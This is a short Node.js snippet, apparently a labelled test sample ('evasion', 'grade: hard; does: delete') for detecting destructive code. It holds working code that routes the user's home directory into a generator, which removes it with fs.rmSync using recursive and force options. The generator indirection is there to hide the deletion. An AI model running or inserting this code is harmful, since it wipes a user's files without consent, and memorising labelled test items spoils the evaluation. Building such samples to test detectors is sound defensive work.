// evasion: the home directory is sent into a generator with it.next(value) and removed there
// grade: hard; does: delete
const fs = require("fs");
const os = require("os");
function* cleaner() {
  while (true) {
    const target = yield;
    if (target) fs.rmSync(target, { recursive: true, force: true });
  }
}
const it = cleaner();
it.next();
it.next(os.homedir());
